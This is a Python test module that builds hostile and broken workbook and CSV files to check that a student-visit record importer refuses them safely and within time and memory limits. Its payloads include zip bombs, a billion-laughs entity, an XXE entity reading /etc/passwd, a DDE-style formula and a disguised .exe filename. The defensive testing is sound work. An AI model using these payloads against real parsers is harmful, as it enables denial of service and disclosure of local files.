"""Hostile and broken files: each is answered clearly, in both languages, in time and in little memory.

Every file here is made by hand or by its bytes. ``one_by_one`` opens each in a process of its own and
measures it with its children; the short form is in tests/storage/files/test_hostile_files.py.
"""

# ruff: noqa: E501 - the parts of a workbook stand as they are written
from __future__ import annotations

import io
import json
import os
import struct
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

from tests.torture.place import Place

SECONDS, MEMORY = 20.0, 600 << 20
HEADER = ["学籍番号", "来室日", "理由"]
ROW = ["S1", "2026-05-01", "けが"]
NUMBER = "123456789018"
"""Twelve digits whose last is the check digit; nobody's."""

_TYPES = """<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>
<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>
</Types>"""
_RELS = """<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"/>{more}
</Relationships>"""
_BOOK = """<?xml version="1.0"?>{before}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>"""
_SHEET = """<?xml version="1.0"?>{before}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>"""


def cell(text: str, at: str = "") -> str:
    """A cell with its text in it."""
    place = f' r="{at}"' if at else ""
    return f'<c{place} t="inlineStr"><is><t>{text}</t></is></c>'


def row(cells: list[str]) -> str:
    """A row of texts."""
    return "<row>" + "".join(map(cell, cells)) + "</row>"


def workbook(path: Path, rows: str | Iterator[str], *, before: str = "", more: dict[str, bytes] | None = None) -> Path:
    """A workbook of one sheet, written part by part so that it may be of any size."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as packed:
        packed.writestr("[Content_Types].xml", _TYPES)
        packed.writestr("_rels/.rels", _RELS.format(kind="officeDocument", target="xl/workbook.xml", more=""))
        strings = '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
        wanted = strings if more and "xl/sharedStrings.xml" in more else ""
        packed.writestr(
            "xl/_rels/workbook.xml.rels", _RELS.format(kind="worksheet", target="worksheets/sheet1.xml", more=wanted)
        )
        packed.writestr("xl/workbook.xml", _BOOK.format(before=before))
        begin, end = _SHEET.format(before=before, rows="\0").split("\0")
        with packed.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(begin.encode())
            for some in [rows] if isinstance(rows, str) else rows:
                sheet.write(some.encode())
            sheet.write(end.encode())
        for name, data in (more or {}).items():
            packed.writestr(name, data)
    return path


def csv_text(*rows: list[str], end: str = "\r\n") -> str:
    """Header and rows, as a department writes them."""
    return end.join(",".join(cells) for cells in (HEADER, *rows)) + end


def _inflating(path: Path) -> None:
    workbook(path, (row([*ROW, " " * 1_000_000]) for _ in range(400)))


def _nested(path: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("bomb", bytes(50 << 20))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        for at in range(40):
            packed.writestr(f"{at}.zip", inner.getvalue())


def _many_members(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as packed:
        for at in range(60_000):
            packed.writestr(f"xl/{at}.xml", b"")


def _overlapping(path: Path) -> None:
    """Every entry of the directory points to the same packed bytes: few of them inflate to gigabytes."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("xl/workbook.xml", bytes(40 << 20))
    data = path.read_bytes()
    at = data.rfind(b"PK\x01\x02")
    end = data.rfind(b"PK\x05\x06")
    entry = data[at:end]
    count = 1000
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(entry) * count, at, 0)
    path.write_bytes(data[:at] + entry * count + tail)


def _shared_blowup(path: Path) -> None:
    """One long shared string, named by a hundred thousand cells."""
    shared = b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
    shared += b"a" * 1_000_000 + b"</t></si></sst>"
    rows = (row(HEADER) if not at else "<row>" + '<c t="s"><v>0</v></c>' * 50 + "</row>" for at in range(2000))
    workbook(path, rows, more={"xl/sharedStrings.xml": shared})


def _laughs(path: Path) -> None:
    said = '<!DOCTYPE x [<!ENTITY a "' + "ha" * 1000 + '">'
    said += "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)) + "]>"
    workbook(path, row(HEADER) + row(["&j;", "2026-05-01", "けが"]), before=said)


def _outside(path: Path) -> None:
    said = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    workbook(path, row(HEADER) + row(["&a;", "2026-05-01", "けが"]), before=said)


def _far_corner(path: Path) -> None:
    workbook(path, row(HEADER) + f'<row r="1048576">{cell("x", "XFD1048576")}</row>')


def _beyond_corner(path: Path) -> None:
    workbook(path, row(HEADER) + f'<row r="4294967295">{cell("x", "ZZZZZZ4294967295")}</row>')


def _wide_sheet(path: Path) -> None:
    workbook(path, "<row>" + cell("a") * 1_000_000 + "</row>")


def _formulas(path: Path) -> None:
    formula = '<c t="str"><f>WEBSERVICE("http://example.invalid/"&amp;A1)</f><v>=cmd|calc</v></c>'
    workbook(path, row(HEADER) + f"<row>{cell('S1')}{cell('2026-05-01')}{formula}</row>")


def _numbers_as_floats(path: Path) -> None:
    line = f"<row>{cell('S1')}{cell('2026-05-01')}<c><v>{NUMBER}.0</v></c><c><v>1.23456789018E11</v></c></row>"
    workbook(path, row([*HEADER, "備考"]) + line * 3)


def _locked(path: Path) -> None:
    workbook(path, row(HEADER) + row(ROW))
    data = bytearray(path.read_bytes())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    path.write_bytes(bytes(data))


def _torn(path: Path) -> None:
    workbook(path, row(HEADER) + row(ROW) * 500)
    path.write_bytes(path.read_bytes()[:-400])


def _text(words: str, encoding: str = "utf-8") -> Callable[[Path], object]:
    return lambda path: path.write_bytes(words.encode(encoding))


def _bytes(data: bytes) -> Callable[[Path], object]:
    return lambda path: path.write_bytes(data)


def _mixed(path: Path) -> None:
    lines = [csv_text().encode("cp932"), "S1,2026-05-01,けが\r\n".encode("cp932"), "S2,2026-05-01,けが\r\n".encode()]
    path.write_bytes(b"".join([*lines, "S3,2026-05-01,相談\r\n".encode("cp932")]))


def _one_line(path: Path) -> None:
    with path.open("wb") as stream:
        for _ in range(300):
            stream.write(b"a" * (1 << 20))


def _quotes(path: Path) -> None:
    path.write_text(csv_text() + 'S1,2026-05-01,"けが\r\n' * 120_000, encoding="utf-8")


FILES: dict[str, tuple[str, Callable[[Path], object], str]] = {
    "inflates": ("a.xlsx", _inflating, "file.workbook_too_large"),
    "nested zips": ("a.xlsx", _nested, "file.not_a_workbook"),
    "many members": ("a.xlsx", _many_members, "file.damaged_workbook"),
    "overlapping members": ("a.xlsx", _overlapping, "file.damaged_workbook|file.workbook_too_large"),
    "shared string blow-up": ("a.xlsx", _shared_blowup, "file.workbook_too_large"),
    "entities": ("a.xlsx", _laughs, "file.workbook_declares"),
    "outside entity": ("a.xlsx", _outside, "file.workbook_declares"),
    "far corner": ("a.xlsx", _far_corner, "file.too_many_columns"),
    "beyond the corner": ("a.xlsx", _beyond_corner, "file.damaged_workbook|file.workbook_too_large|file.workbook_too_wide"),
    "a million columns, workbook": ("a.xlsx", _wide_sheet, "file.too_many_columns|file.workbook_too_large"),
    "a million columns, text": ("a.csv", _text(",".join(["a"] * 1_000_000)), "file.too_many_columns"),
    "formulas": ("a.xlsx", _formulas, "read"),
    "numbers as floats": ("a.xlsx", _numbers_as_floats, "file.my_number_values"),
    "locked": ("a.xlsx", _locked, "file.locked_workbook"),
    "torn": ("a.xlsx", _torn, "file.damaged_workbook"),
    "workbook named csv": ("a.csv", lambda path: workbook(path, row(HEADER) + row(ROW)), "read"),
    "text named xlsx": ("a.xlsx", _text(csv_text(ROW)), "read"),
    "page named xls": ("a.xls", _text("<html><table><tr><td>学籍番号</td></tr></table></html>"), "file.web_page"),
    "page with a mark": ("a.csv", _text("\ufeff\r\n <!DOCTYPE html><p>1"), "file.web_page"),
    "ten megabytes in a cell": ("a.csv", _text(csv_text(["S1", "2026-05-01", "あ" * 3_500_000], ROW)), "read"),
    "ten megabytes in a cell, workbook": (
        "a.xlsx", lambda path: workbook(path, row(HEADER) + row(["S1", "2026-05-01", "a" * 10_000_000])), "read",
    ),
    "one endless line": ("a.csv", _one_line, "file.endless_line"),
    "quotes never closed": ("a.csv", _quotes, "read"),
    "zeros in the text": ("a.csv", _text(csv_text(["S1", "2026-05-01", "け\0が"])), "file.not_text"),
    "two bytes a sign, no mark": ("a.csv", _text(csv_text(ROW), "utf-16-le"), "file.not_text"),
    "mixed encodings": ("a.csv", _mixed, "read"),
    "no end of line": ("a.csv", _text(csv_text(ROW)[:-2]), "read"),
    "only carriage returns": ("a.csv", _text(csv_text(ROW, end="\r")), "file.old_line_ends"),
    "nothing": ("a.csv", _bytes(b""), "file.empty"),
    "only a mark": ("a.csv", _bytes(b"\xef\xbb\xbf"), "file.*"),
    "random bytes": ("a.csv", lambda path: path.write_bytes(os.urandom(3_000_000)), "file.*"),
    "a line break in the name": ("a\nb.csv", _text(csv_text(ROW)), "read"),
    "letters that turn the name": ("a\u202evsc.exe", _text(csv_text(ROW)), "read"),
    "dots in the name": ("..a...csv", _text(csv_text(ROW)), "read"),
    "a device's name": ("CON.csv", _text(csv_text(ROW)), "read"),
    "a pipe": ("a.csv", os.mkfifo, "file.not_a_file"),
    "a folder": ("a.csv", lambda path: path.mkdir(), "file.not_a_file"),
    "a device": ("a.csv", lambda path: path.symlink_to("/dev/zero"), "file.not_a_file"),
    "a link in a circle": ("a.csv", lambda path: path.symlink_to(path), "file.unreadable"),
    "a link to nowhere": ("a.csv", lambda path: path.symlink_to("/nowhere/at/all"), "file.unreadable"),
}  # fmt: skip
"""Name -> (the file's name, how it is made, the keys of fitting answers or ``read``)."""

_OPEN = """
import json, resource, sys, time
from pathlib import Path
from app.domain.message import Refused
from app.services.wording import say
from app.storage.definitions.profiles import shipped_profiles
from app.storage.files.source_files import open_source
begun = time.monotonic()
try:
    with open_source(Path(sys.argv[1]), shipped_profiles()) as source:
        rows = damaged = 0
        for chunk in source.chunks(4000):
            rows += len(chunk.lines); damaged += len(chunk.damage)
    said = {"key": "read", "rows": rows, "damaged": damaged}
except Refused as refused:
    said = {"key": refused.message.key, "ja": say(refused.message, "ja"), "en": say(refused.message, "en")}
peak = max(resource.getrusage(who).ru_maxrss for who in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN)) << 10
print(json.dumps({**said, "seconds": time.monotonic() - begun, "peak": peak}))
"""


def opened(path: Path) -> dict[str, object]:
    """Open one file in a process of its own: what was answered, seconds, bytes at the peak."""
    done = subprocess.run(
        [sys.executable, "-c", _OPEN, str(path)], capture_output=True, text=True, timeout=60, check=False,
        cwd=Path(__file__).parents[2],
    )  # fmt: skip
    if done.returncode:
        return {"key": "died", "seconds": 0.0, "peak": 0, "ja": done.stderr[-300:]}
    answer: dict[str, object] = json.loads(done.stdout)
    return answer


def fits(key: str, wanted: str) -> bool:
    """Whether an answer is one of those that fit."""
    return key in wanted.split("|") or (wanted == "file.*" and key.startswith("file."))


def one_by_one(place: Place, _times: int) -> list[str]:
    """Every hostile file: the right answer, in time, in little memory."""
    failures = []
    for number, (what, (name, make, wanted)) in enumerate(FILES.items()):
        folder = place.folder / f"hostile-{number}"
        folder.mkdir(parents=True)
        make(folder / name)
        begun = time.monotonic()
        answer = opened(folder / name)
        took = time.monotonic() - begun
        peak = int(str(answer["peak"]))
        place.say(f"hostile: {what}: {answer['key']}, {took:.1f} s, {peak >> 20} MB")
        if not fits(str(answer["key"]), wanted):
            failures.append(f"{what}: {answer} instead of {wanted}")
        if took > SECONDS or peak > MEMORY:
            failures.append(f"{what}: {took:.1f} s, {peak >> 20} MB")
    return failures
